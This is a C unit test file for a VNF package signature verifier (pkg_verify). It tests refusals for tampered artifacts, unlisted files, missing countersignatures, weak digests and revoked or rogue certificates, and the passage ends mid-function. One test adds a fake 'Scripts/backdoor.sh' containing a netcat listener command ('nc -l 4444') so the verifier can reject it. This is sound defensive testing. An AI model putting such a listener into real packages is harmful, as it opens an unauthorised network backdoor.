/* Unit tests of pkg_verify over in-memory packages signed by a test PKI
 * made with OpenSSL's API (test_pkg_pki.h; signatures by CMS_sign, digests
 * by EVP_Digest and the FIPS 180-2 "abc" vector): the accepted package and
 * every refusal with its reason - a changed artifact, an unlisted file, a
 * missing file, an unsigned manifest, no operator countersignature, an LI
 * VNF without the LI administration's, an expired or revoked certificate,
 * the wrong CA, a certificate not for code signing, a countersignature by
 * the vendor's own key or over another manifest, anchors shared by two
 * roles, per-artifact signatures good and bad, a member producing more
 * bytes than declared, unsigned bytes in the files the manifest does not
 * list - plus pkg_cms_sign's output checked by OpenSSL; and a package of
 * 10,000 members with long shared names verified, and refused for an
 * unlisted member, in a bounded CPU time (the name lookups were
 * quadratic). */
#include <ctype.h>
#include <openssl/bn.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "pkg/pkg.h"
#include "test_pkg_pki.h"

static const char abc_sha256[] = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

/* ---- an in-memory package ---------------------------------------------- */

#define MP_MAX 32
typedef struct mpkg {
  char *name[MP_MAX];
  uint8_t *data[MP_MAX];
  size_t len[MP_MAX];
  size_t n;
  const char *extra_member; /* reading this member produces 64 bytes more */
  pkg_entry e[MP_MAX];
  pkg_source src;
} mpkg;

static void mp_put(mpkg *p, const char *name, const void *data, size_t len) {
  size_t i = 0;
  while (i < p->n && strcmp(p->name[i], name) != 0) i++;
  if (i == p->n) {
    assert_true(p->n < MP_MAX);
    p->name[p->n++] = strdup(name);
  } else {
    free(p->data[i]);
  }
  p->data[i] = malloc(len + 1);
  memcpy(p->data[i], data, len);
  p->data[i][len] = '\0';
  p->len[i] = len;
}

static void mp_puts(mpkg *p, const char *name, const char *text) { mp_put(p, name, text, strlen(text)); }

static void mp_del(mpkg *p, const char *name) {
  for (size_t i = 0; i < p->n; i++)
    if (strcmp(p->name[i], name) == 0) {
      free(p->name[i]);
      free(p->data[i]);
      p->n--;
      p->name[i] = p->name[p->n];
      p->data[i] = p->data[p->n];
      p->len[i] = p->len[p->n];
      return;
    }
}

static const uint8_t *mp_get(const mpkg *p, const char *name, size_t *len) {
  for (size_t i = 0; i < p->n; i++)
    if (strcmp(p->name[i], name) == 0) {
      *len = p->len[i];
      return p->data[i];
    }
  return NULL;
}

static void mp_free(mpkg *p) {
  for (size_t i = 0; i < p->n; i++) {
    free(p->name[i]);
    free(p->data[i]);
  }
  p->n = 0;
}

/* Delivers a member in 7-byte chunks so every consumer copes with chunks. */
static int mp_read(void *ctx, size_t i, pkg_sink sink, void *sctx, lisec_err *err) {
  mpkg *p = ctx;
  for (size_t off = 0; off < p->len[i]; off += 7) {
    size_t k = p->len[i] - off < 7 ? p->len[i] - off : 7;
    int rc = sink(sctx, p->data[i] + off, k, err);
    if (rc) return rc;
  }
  static const uint8_t junk[64];
  if (p->extra_member && strcmp(p->extra_member, p->name[i]) == 0)
    return sink(sctx, junk, sizeof junk, err);
  return 0;
}

static const pkg_source *mp_source(mpkg *p) {
  for (size_t i = 0; i < p->n; i++)
    p->e[i] = (pkg_entry){p->name[i], p->len[i], p->len[i], false};
  p->src = (pkg_source){p->e, p->n, mp_read, p};
  return &p->src;
}

/* ---- the fixture: a PKI and a signed package --------------------------- */

typedef struct fx {
  tp_id vca, oca, lca, vendor, op, li;
  pkg_trust *trust;
} fx;
static fx F;

static void trust_add(pkg_trust *t, pkg_role role, X509 *c) {
  size_t len;
  char *pem = tp_cert_pem(c, &len);
  lisec_err err = {0};
  assert_int_equal(pkg_trust_add_anchors_pem(t, role, pem, len, &err), 0);
  free(pem);
}

static int group_setup(void **state) {
  (void)state;
  F.vca = tp_make_ca("Vendor");
  F.oca = tp_make_ca("Operator");
  F.lca = tp_make_ca("LI Administration");
  F.vendor = tp_make_leaf(&F.vca, "Vendor", "vendor signing", -86400, 10L * 86400, "codeSigning");
  F.op = tp_make_leaf(&F.oca, "Operator", "operator on-boarding", -86400, 10L * 86400, "codeSigning");
  F.li = tp_make_leaf(&F.lca, "LI Administration", "li admin", -86400, 10L * 86400, NULL);
  lisec_err err = {0};
  if (pkg_trust_new(&F.trust, &err)) return -1;
  trust_add(F.trust, PKG_ROLE_VENDOR, F.vca.cert);
  trust_add(F.trust, PKG_ROLE_OPERATOR, F.oca.cert);
  trust_add(F.trust, PKG_ROLE_LI_ADMIN, F.lca.cert);
  return 0;
}

static int group_teardown(void **state) {
  (void)state;
  tp_id *ids[] = {&F.vca, &F.oca, &F.lca, &F.vendor, &F.op, &F.li};
  for (size_t i = 0; i < 6; i++) tp_free(ids[i]);
  pkg_trust_free(F.trust);
  return 0;
}

static const char tosca_meta[] =
    "TOSCA-Meta-File-Version: 1.0\nCSAR-Version: 1.1\nCreated-By: test\n"
    "Entry-Definitions: Definitions/vnfd.yaml\nETSI-Entry-Manifest: vnfd.mf\n"
    "ETSI-Entry-Certificate: Files/vnfd.cert\n";

static void mp_base(mpkg *p) {
  memset(p, 0, sizeof *p);
  mp_puts(p, "TOSCA-Metadata/TOSCA.meta", tosca_meta);
  mp_puts(p, "Definitions/vnfd.yaml", "tosca_definitions_version: tosca_simple_yaml_1_3\n");
  mp_puts(p, "Artifacts/Images/vm.qcow2", "abc");
  mp_puts(p, "Scripts/install.sh", "#!/bin/sh\necho installed\n");
}

static bool exempt(const char *name) {
  return strcmp(name, "vnfd.mf") == 0 || strstr(name, ".cert") ||
         strncmp(name, "Countersignatures/", 18) == 0 || strstr(name, ".sig.cms");
}

/* Writes vnfd.mf listing every member (digests by EVP_Digest; the image's
 * is checked against the FIPS vector) and signs it with `by`; extra goes
 * into the metadata, artifact_sig (a "Signature: ..." or "Certificate:
 * ..." line) into Scripts/install.sh's block. */
static void mp_sign(mpkg *p, const tp_id *by, const char *extra, const char *artifact_sig) {
  char body[8192];
  int n = snprintf(body, sizeof body,
                   "metadata:\nvnf_provider_id: Acme\nvnf_product_name: vProbe\n"
                   "vnf_release_date_time: 2026-01-01T00:00:00Z\nvnf_package_version: 1.0\n%s\n",
                   extra ? extra : "");
  for (size_t i = 0; i < p->n; i++) {
    if (exempt(p->name[i])) continue;
    uint8_t d[32];
    char hex[65];
    unsigned dl = 0;
    EVP_Digest(p->data[i], p->len[i], d, &dl, EVP_sha256(), NULL);
    lisec_hex_encode(d, 32, hex);
    if (strcmp(p->name[i], "Artifacts/Images/vm.qcow2") == 0) assert_string_equal(hex, abc_sha256);
    n += snprintf(body + n, sizeof body - (size_t)n, "Source: %s\nAlgorithm: SHA-256\nHash: %s\n",
                  p->name[i], hex);
    if (artifact_sig && strcmp(p->name[i], "Scripts/install.sh") == 0)
      n += snprintf(body + n, sizeof body - (size_t)n, "%s\n", artifact_sig);
    n += snprintf(body + n, sizeof body - (size_t)n, "\n");
  }
  size_t sl;
  char *sig = tp_cms_sign(by, body, (size_t)n, &sl);
  char *full = malloc((size_t)n + sl);
  memcpy(full, body, (size_t)n);
  memcpy(full + n, sig, sl);
  mp_put(p, "vnfd.mf", full, (size_t)n + sl);
  free(full);
  free(sig);
  size_t cl;
  char *cert = tp_cert_pem(by->cert, &cl);
  mp_put(p, "Files/vnfd.cert", cert, cl);
  free(cert);
}

static void mp_countersign(mpkg *p, const tp_id *by, const char *label) {
  size_t ml = 0, sl = 0;
  const uint8_t *m = mp_get(p, "vnfd.mf", &ml);
  assert_non_null(m);
  char *sig = tp_cms_sign(by, m, ml, &sl);
  char name[64];
  snprintf(name, sizeof name, "Countersignatures/%s.cms", label);
  mp_put(p, name, sig, sl);
  free(sig);
}

static int verify(mpkg *p, const pkg_trust *t, const pkg_policy *pol, pkg_result **r,
                  lisec_err *err) {
  pkg_policy def;
  pkg_policy_default(&def);
  *r = NULL;
  return pkg_verify(mp_source(p), t ? t : F.trust, pol ? pol : &def, r, err);
}

#define ASSERT_REFUSED(p, t, pol, code, text)                                   \
  do {                                                                          \
    pkg_result *r_ = NULL;                                                      \
    lisec_err e_ = {0};                                                         \
    int rc_ = verify(p, t, pol, &r_, &e_);                                      \
    if (rc_ != (code) || !strstr(e_.msg, text))                                 \
      fail_msg("expected %d '%s', got %d '%s'", code, text, rc_, e_.msg);       \
    assert_null(r_);                                                            \
  } while (0)

/* ---- tests -------------------------------------------------------------- */

static void test_accepted(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  pkg_result *r = NULL;
  lisec_err err = {0};
  int rc = verify(&p, NULL, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  assert_true(r->verified);
  assert_true(r->tosca_metadata);
  assert_false(r->li);
  assert_string_equal(r->manifest_path, "vnfd.mf");
  assert_string_equal(pkg_result_meta(r, "vnf_product_name"), "vProbe");
  assert_int_equal(r->n_signers, 2);
  const pkg_signer *v = pkg_result_vendor(r);
  assert_non_null(v);
  assert_non_null(strstr(v->subject, "CN=vendor signing"));
  assert_non_null(strstr(v->anchor_subject, "CN=Vendor CA"));
  assert_int_equal(r->signers[1].role, PKG_ROLE_OPERATOR);
  assert_int_equal(r->n_artifacts, 4);
  bool image = false;
  for (size_t i = 0; i < r->n_artifacts; i++)
    if (r->artifacts[i].is_image) {
      char hex[65];
      lisec_hex_encode(r->artifacts[i].digest, 32, hex);
      assert_string_equal(hex, abc_sha256);
      image = true;
    }
  assert_true(image);
  assert_false(r->revocation_checked);
  pkg_record rec;
  assert_int_equal(pkg_record_from_result(r, "tenant:alpha", &rec, &err), 0);
  assert_string_equal(rec.provider_id, "Acme");
  assert_string_equal(rec.vendor_anchor, v->anchor_sha256);
  json_t *j = pkg_result_to_json(r);
  assert_non_null(j);
  assert_int_equal(json_array_size(json_object_get(j, "signers")), 2);
  json_decref(j);
  pkg_result_free(r);
  /* The same package through pkg_inspect: nothing trusted, signers found. */
  assert_int_equal(pkg_inspect(mp_source(&p), NULL, &r, &err), 0);
  assert_false(r->verified);
  assert_int_equal(r->n_signers, 2);
  assert_null(r->signers[0].anchor_subject);
  pkg_result_free(r);
  mp_free(&p);
}

static void test_changed_artifact(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  mp_puts(&p, "Artifacts/Images/vm.qcow2", "abd");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Artifacts/Images/vm.qcow2' does not match");
  mp_free(&p);
}

static void test_unlisted_and_missing(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  mp_puts(&p, "Scripts/backdoor.sh", "nc -l 4444\n");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Scripts/backdoor.sh' is in the package but not in the signed manifest");
  mp_del(&p, "Scripts/backdoor.sh");
  mp_del(&p, "Scripts/install.sh");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EINVAL, "listed artifact 'Scripts/install.sh' is not in the package");
  mp_free(&p);
  /* TOSCA.meta must be listed too: it decides which files mean what. */
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  mp_puts(&p, "TOSCA-Metadata/TOSCA.meta", "TOSCA-Meta-File-Version: 1.0\nCSAR-Version: 1.1\n"
                                           "Entry-Definitions: Scripts/install.sh\nETSI-Entry-Manifest: vnfd.mf\n"
                                           "ETSI-Entry-Certificate: Files/vnfd.cert\n");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'TOSCA-Metadata/TOSCA.meta' does not match");
  mp_free(&p);
}

static void test_unsigned_and_tampered_manifest(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  size_t ml;
  const uint8_t *m = mp_get(&p, "vnfd.mf", &ml);
  const char *cms = strstr((const char *)m, "-----BEGIN CMS-----");
  char *body = strndup((const char *)m, (size_t)(cms - (const char *)m));
  char *signature = strdup(cms);
  mp_puts(&p, "vnfd.mf", body);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "carries no CMS signature");
  /* A changed metadata value under the old signature. */
  char *evil = malloc(strlen(body) + strlen(signature) + 1);
  strcpy(evil, body);
  memcpy(strstr(evil, "vProbe"), "vPwned", 6);
  strcat(evil, signature);
  mp_puts(&p, "vnfd.mf", evil);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_ECRYPTO, "does not verify");
  free(evil);
  free(body);
  free(signature);
  mp_free(&p);
}

static void test_dual_signing(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "no operator countersignature");
  pkg_policy pol;
  pkg_policy_default(&pol);
  pol.require_operator = false;
  pkg_result *r = NULL;
  lisec_err err = {0};
  assert_int_equal(verify(&p, NULL, &pol, &r, &err), 0);
  pkg_result_free(r);
  /* An LI VNF: the LI administration's countersignature is required. */
  mp_countersign(&p, &F.op, "operator");
  pkg_policy_default(&pol);
  pol.li = true;
  ASSERT_REFUSED(&p, NULL, &pol, LISEC_EDENIED, "LI VNF without the LI administration's countersignature");
  /* Only the countersigning step itself may verify what it is about to
   * complete; the default policy requires it. */
  pol.require_li_admin = false;
  assert_int_equal(verify(&p, NULL, &pol, &r, &err), 0);
  assert_true(r->li);
  pkg_result_free(r);
  pkg_policy_default(&pol);
  assert_true(pol.require_li_admin);
  pol.li = true;
  mp_countersign(&p, &F.li, "li-admin");
  assert_int_equal(verify(&p, NULL, &pol, &r, &err), 0);
  assert_true(r->li);
  assert_int_equal(r->n_signers, 3);
  pkg_result_free(r);
  mp_free(&p);
  /* The package itself says it is LI: policy.li need not be set. */
  mp_base(&p);
  mp_sign(&p, &F.vendor, "lisec_li_vnf: true\n", NULL);
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "LI VNF without");
  mp_free(&p);
}

static void test_countersignature_abuse(void **state) {
  (void)state;
  mpkg p;
  /* A label other than 1-32 of a-z 0-9 - (docs/packages.md, as `lisec
   * pkg countersign --label` demands) is no countersignature. */
  static const char *const bad_labels[] = {"Operator", "op sig", "op.2",
                                           "a123456789012345678901234567890bc"};
  for (size_t i = 0; i < LISEC_ARRAY_LEN(bad_labels); i++) {
    mp_base(&p);
    mp_sign(&p, &F.vendor, NULL, NULL);
    mp_countersign(&p, &F.op, bad_labels[i]);
    ASSERT_REFUSED(&p, NULL, NULL, LISEC_EINVAL, "is not a countersignature");
    mp_free(&p);
  }
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  /* The vendor countersigning its own package is not a second party:
   * refused with its vendor certificate (not an operator's) ... */
  mp_countersign(&p, &F.vendor, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "operator signer 'CN=vendor signing,O=Vendor' not trusted");
  /* ... and with its own key under an operator certificate. */
  tp_id same_key = {F.vendor.key, tp_cert("Operator", "op with vendor key", F.vendor.key, &F.oca,
                                          false, -60, 86400, "codeSigning")};
  mp_countersign(&p, &same_key, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "dual signing needs two parties");
  X509_free(same_key.cert);
  mp_free(&p);
  /* An operator key certified by the vendor CA does not count either. */
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  tp_id fake = tp_make_leaf(&F.vca, "Operator", "fake operator", -60, 86400, "codeSigning");
  mp_countersign(&p, &fake, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "unable to get local issuer certificate");
  tp_free(&fake);
  /* A countersignature over another manifest. */
  mp_countersign(&p, &F.op, "operator");
  mp_sign(&p, &F.vendor, "vnf_software_version: 2\n", NULL);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_ECRYPTO, "does not verify");
  mp_free(&p);
  /* Not a .cms, or in a subdirectory. */
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  mp_puts(&p, "Countersignatures/x/operator.cms", "x");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EINVAL, "is not a countersignature");
  mp_free(&p);
  /* The same CA configured for operator and LI administration. */
  pkg_trust *t = NULL;
  lisec_err err = {0};
  assert_int_equal(pkg_trust_new(&t, &err), 0);
  trust_add(t, PKG_ROLE_VENDOR, F.vca.cert);
  trust_add(t, PKG_ROLE_OPERATOR, F.oca.cert);
  trust_add(t, PKG_ROLE_LI_ADMIN, F.oca.cert);
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, t, NULL, LISEC_EDENIED, "each role needs its own CA");
  mp_free(&p);
  pkg_trust_free(t);
}

/* A detached PEM CMS over data by id with the digest md (CMS_sign takes
 * SHA-256; an older tool or a careless option takes SHA-1). */
static char *cms_sign_md(const tp_id *id, const EVP_MD *md, const void *data, size_t len,
                         size_t *out_len) {
  BIO *in = BIO_new_mem_buf(data, (int)len);
  CMS_ContentInfo *cms = CMS_sign(NULL, NULL, NULL, NULL, CMS_BINARY | CMS_DETACHED | CMS_PARTIAL);
  assert_non_null(CMS_add1_signer(cms, id->cert, id->key, md, CMS_BINARY));
  assert_int_equal(CMS_final(cms, in, NULL, CMS_BINARY | CMS_DETACHED), 1);
  BIO_free(in);
  return tp_cms_pem(cms, out_len);
}

/* The manifest's Algorithm and per-artifact signatures must be SHA-2; so
 * must the digest under the vendor's signature and the countersignatures,
 * else a SHA-1 collision moves a countersignature to another manifest. */
static void test_weak_digest(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  size_t ml = 0, sl = 0;
  const uint8_t *m = mp_get(&p, "vnfd.mf", &ml);
  char *sig = cms_sign_md(&F.op, EVP_sha1(), m, ml, &sl);
  mp_put(&p, "Countersignatures/operator.cms", sig, sl);
  free(sig);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "SHA-256, SHA-384 or SHA-512");
  /* The vendor's signature of the manifest body with SHA-1. */
  char *body = strndup((const char *)m, strstr((const char *)m, "-----BEGIN CMS-----") - (const char *)m);
  sig = cms_sign_md(&F.vendor, EVP_sha1(), body, strlen(body), &sl);
  char *full = malloc(strlen(body) + sl);
  memcpy(full, body, strlen(body));
  memcpy(full + strlen(body), sig, sl);
  mp_put(&p, "vnfd.mf", full, strlen(body) + sl);
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "SHA-256, SHA-384 or SHA-512");
  free(full);
  free(sig);
  free(body);
  /* SHA-384 is fine. */
  mp_sign(&p, &F.vendor, NULL, NULL);
  m = mp_get(&p, "vnfd.mf", &ml);
  sig = cms_sign_md(&F.op, EVP_sha384(), m, ml, &sl);
  mp_put(&p, "Countersignatures/operator.cms", sig, sl);
  free(sig);
  pkg_result *r = NULL;
  lisec_err err = {0};
  if (verify(&p, NULL, NULL, &r, &err)) fail_msg("SHA-384 countersignature: %s", err.msg);
  pkg_result_free(r);
  mp_free(&p);
}

static void test_certificates(void **state) {
  (void)state;
  mpkg p;
  pkg_result *r = NULL;
  lisec_err err = {0};
  /* Expired: refused now, accepted at a time inside its validity. */
  tp_id old = tp_make_leaf(&F.vca, "Vendor", "old signer", -5L * 86400, -12L * 3600, "codeSigning");
  mp_base(&p);
  mp_sign(&p, &old, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "certificate has expired");
  pkg_policy pol;
  pkg_policy_default(&pol);
  pol.at = lisec_time_now() - 18L * 3600;
  assert_int_equal(verify(&p, NULL, &pol, &r, &err), 0);
  pkg_result_free(r);
  tp_free(&old);
  mp_free(&p);
  /* Not yet valid. */
  tp_id future = tp_make_leaf(&F.vca, "Vendor", "future signer", 86400, 2L * 86400, "codeSigning");
  mp_base(&p);
  mp_sign(&p, &future, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "not yet valid");
  tp_free(&future);
  mp_free(&p);
  /* A vendor certificate from another CA. */
  tp_id rogue_ca = tp_make_ca("Rogue");
  tp_id rogue = tp_make_leaf(&rogue_ca, "Vendor", "vendor signing", -60, 86400, "codeSigning");
  mp_base(&p);
  mp_sign(&p, &rogue, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "vendor signer 'CN=vendor signing,O=Vendor' not trusted");
  tp_free(&rogue);
  tp_free(&rogue_ca);
  mp_free(&p);
  /* A certificate for e-mail, not code signing. */
  tp_id mail = tp_make_leaf(&F.vca, "Vendor", "mail", -60, 86400, "emailProtection");
  mp_base(&p);
  mp_sign(&p, &mail, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "not for code signing");
  tp_free(&mail);
  mp_free(&p);
}

static void test_revocation(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  pkg_trust *t = NULL;
  lisec_err err = {0};
  size_t l;
  char *crl;
  assert_int_equal(pkg_trust_new(&t, &err), 0);
  trust_add(t, PKG_ROLE_VENDOR, F.vca.cert);
  trust_add(t, PKG_ROLE_OPERATOR, F.oca.cert);
  /* CRLs for both CAs, nothing revoked: accepted, revocation checked. */
  crl = tp_crl_pem(&F.vca, NULL, &l);
  assert_int_equal(pkg_trust_add_crls_pem(t, crl, l, &err), 0);
  free(crl);
  /* With a CRL loaded, a CA without one fails closed. */
  ASSERT_REFUSED(&p, t, NULL, LISEC_EDENIED, "unable to get certificate CRL");
  crl = tp_crl_pem(&F.oca, NULL, &l);
  assert_int_equal(pkg_trust_add_crls_pem(t, crl, l, &err), 0);
  free(crl);
  pkg_result *r = NULL;
  int rc = verify(&p, t, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  assert_true(r->revocation_checked);
  pkg_result_free(r);
  pkg_trust_free(t);
  /* The vendor's certificate revoked. */
  assert_int_equal(pkg_trust_new(&t, &err), 0);
  trust_add(t, PKG_ROLE_VENDOR, F.vca.cert);
  trust_add(t, PKG_ROLE_OPERATOR, F.oca.cert);
  crl = tp_crl_pem(&F.vca, F.vendor.cert, &l);
  assert_int_equal(pkg_trust_add_crls_pem(t, crl, l, &err), 0);
  free(crl);
  crl = tp_crl_pem(&F.oca, NULL, &l);
  assert_int_equal(pkg_trust_add_crls_pem(t, crl, l, &err), 0);
  free(crl);
  ASSERT_REFUSED(&p, t, NULL, LISEC_EDENIED, "certificate revoked");
  pkg_trust_free(t);
  assert_int_not_equal(pkg_trust_add_crls_pem(F.trust, "junk", 4, &err), 0);
  mp_free(&p);
}

/* A CRL without nextUpdate (RFC 5280 requires one) is current forever to
 * OpenSSL, so a list of years ago would pass for today's: it is refused
 * when loaded, as a vendor CRL lisecd holds is (pkg_crl_accept). */
static void test_crl_without_next_update(void **state) {
  (void)state;
  X509_CRL *crl = X509_CRL_new();
  X509_CRL_set_version(crl, 1);
  X509_CRL_set_issuer_name(crl, X509_get_subject_name(F.vca.cert));
  ASN1_TIME *t = ASN1_TIME_new();
  X509_gmtime_adj(t, -3 * 365 * 86400L);
  X509_CRL_set1_lastUpdate(crl, t);
  ASN1_TIME_free(t);
  X509_CRL_sign(crl, F.vca.key, EVP_sha256());
  BIO *b = BIO_new(BIO_s_mem());
  PEM_write_bio_X509_CRL(b, crl);
  char *pem = NULL;
  long n = BIO_get_mem_data(b, &pem);
  X509_CRL_free(crl);
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  pkg_trust *tr = NULL;
  lisec_err err = {0};
  assert_int_equal(pkg_trust_new(&tr, &err), 0);
  trust_add(tr, PKG_ROLE_VENDOR, F.vca.cert);
  trust_add(tr, PKG_ROLE_OPERATOR, F.oca.cert);
  size_t l;
  char *ocrl = tp_crl_pem(&F.oca, NULL, &l);
  assert_int_equal(pkg_trust_add_crls_pem(tr, ocrl, l, &err), 0);
  free(ocrl);
  int rc = pkg_trust_add_crls_pem(tr, pem, (size_t)n, &err);
  BIO_free(b);
  if (rc == 0) {
    pkg_result *r = NULL;
    if (verify(&p, tr, NULL, &r, &err) == 0)
      fail_msg("a CRL without nextUpdate was loaded and the package verified against it");
    fail_msg("a CRL without nextUpdate was loaded");
  }
  assert_int_equal(rc, LISEC_EINVAL);
  assert_non_null(strstr(err.msg, "no nextUpdate"));
  assert_non_null(strstr(err.msg, "CN=Vendor CA"));
  pkg_trust_free(tr);
  mp_free(&p);
}

/* Vendor CRLs the operator loads (issue 21 item 3): the verified signer
 * keeps its chain's issuer and serial; a CRL is accepted only from a vendor
 * anchor's key and while current, and then says whether it lists them. */
static void test_vendor_crl(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  pkg_result *r = NULL;
  lisec_err err = {0};
  int rc = verify(&p, NULL, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  const pkg_signer *v = pkg_result_vendor(r);
  assert_non_null(v);
  assert_int_equal(v->n_chain, 1);
  assert_string_equal(v->chain[0].issuer, "CN=Vendor CA,O=Vendor");
  BIGNUM *bn = ASN1_INTEGER_to_BN(X509_get0_serialNumber(F.vendor.cert), NULL);
  char *hex = BN_bn2hex(bn);
  for (char *c = hex; *c; c++) *c = (char)tolower((unsigned char)*c);
  const char *want = hex;
  while (want[0] == '0' && want[1]) want++;
  assert_string_equal(v->chain[0].serial, want);
  json_t *j = pkg_result_to_json(r);
  assert_string_equal(json_string_value(json_object_get(json_array_get(json_object_get(j, "signers"), 0), "serial")), want);
  json_decref(j);

  size_t l = 0;
  char *pem = tp_crl_pem(&F.vca, F.vendor.cert, &l);
  X509_CRL *crl = NULL;
  pkg_crl_info info;
  assert_int_equal(pkg_crl_parse(pem, l, 1 << 20, &crl, &err), 0);
  assert_int_equal(pkg_crl_accept(F.trust, crl, lisec_time_now(), &info, &err), 0);
  assert_int_equal(info.n_revoked, 1);
  assert_string_equal(info.issuer, "CN=Vendor CA,O=Vendor");
  assert_true(pkg_crl_lists(crl, v->chain[0].issuer, v->chain[0].serial, NULL));
  assert_false(pkg_crl_lists(crl, v->chain[0].issuer, "1234", NULL));
  assert_false(pkg_crl_lists(crl, "CN=Operator CA,O=Operator", v->chain[0].serial, NULL));
  /* current only: expired, or from the future */
  assert_int_equal(pkg_crl_accept(F.trust, crl, info.next_update, &info, &err), LISEC_EDENIED);
  assert_non_null(strstr(err.msg, "TR103308-4.1-CRL: the CRL expired"));
  pkg_crl_accept(F.trust, crl, lisec_time_now(), &info, &err);
  assert_int_equal(pkg_crl_accept(F.trust, crl, info.last_update - 3600, &info, &err), LISEC_EDENIED);
  assert_non_null(strstr(err.msg, "in the future"));
  /* the same in DER; DER with bytes after it is refused */
  uint8_t *der = NULL;
  int dl = i2d_X509_CRL(crl, &der);
  X509_CRL *crl2 = NULL;
  assert_int_equal(pkg_crl_parse(der, (size_t)dl, 1 << 20, &crl2, &err), 0);
  assert_true(pkg_crl_lists(crl2, v->chain[0].issuer, v->chain[0].serial, NULL));
  X509_CRL_free(crl2);
  uint8_t *longer = malloc((size_t)dl + 1);
  memcpy(longer, der, (size_t)dl);
  longer[dl] = 0;
  assert_int_equal(pkg_crl_parse(longer, (size_t)dl + 1, 1 << 20, &crl2, &err), LISEC_EINVAL);
  assert_int_equal(pkg_crl_parse(der, (size_t)dl - 1, 1 << 20, &crl2, &err), LISEC_EINVAL);
  assert_int_equal(pkg_crl_parse(der, (size_t)dl, (size_t)dl - 1, &crl2, &err), LISEC_ETOOBIG);
  assert_int_equal(pkg_crl_parse("junk", 4, 1 << 20, &crl2, &err), LISEC_EINVAL);
  assert_int_equal(pkg_crl_parse("", 0, 1 << 20, &crl2, &err), LISEC_EINVAL);
  assert_null(crl2);
  free(longer);
  OPENSSL_free(der);
  /* two CRLs in one PEM: one at a time */
  char *two = malloc(2 * l + 1);
  memcpy(two, pem, l);
  memcpy(two + l, pem, l + 1);
  assert_int_equal(pkg_crl_parse(two, 2 * l, 1 << 20, &crl2, &err), LISEC_EINVAL);
  assert_non_null(strstr(err.msg, "more than one"));
  free(two);
  free(pem);
  X509_CRL_free(crl);
  /* not a vendor CA: the operator's; a CA with the vendor's name and another key */
  pem = tp_crl_pem(&F.oca, NULL, &l);
  assert_int_equal(pkg_crl_parse(pem, l, 1 << 20, &crl, &err), 0);
  assert_int_equal(pkg_crl_accept(F.trust, crl, lisec_time_now(), &info, &err), LISEC_EDENIED);
  assert_non_null(strstr(err.msg, "is not a vendor CA"));
  X509_CRL_free(crl);
  free(pem);
  tp_id rogue = tp_make_ca("Vendor");
  pem = tp_crl_pem(&rogue, F.vendor.cert, &l);
  assert_int_equal(pkg_crl_parse(pem, l, 1 << 20, &crl, &err), 0);
  assert_int_equal(pkg_crl_accept(F.trust, crl, lisec_time_now(), &info, &err), LISEC_EDENIED);
  assert_non_null(strstr(err.msg, "does not verify"));
  assert_int_equal(pkg_crl_accept(NULL, crl, lisec_time_now(), &info, &err), LISEC_EDENIED);
  X509_CRL_free(crl);
  free(pem);
  tp_free(&rogue);
  OPENSSL_free(hex);
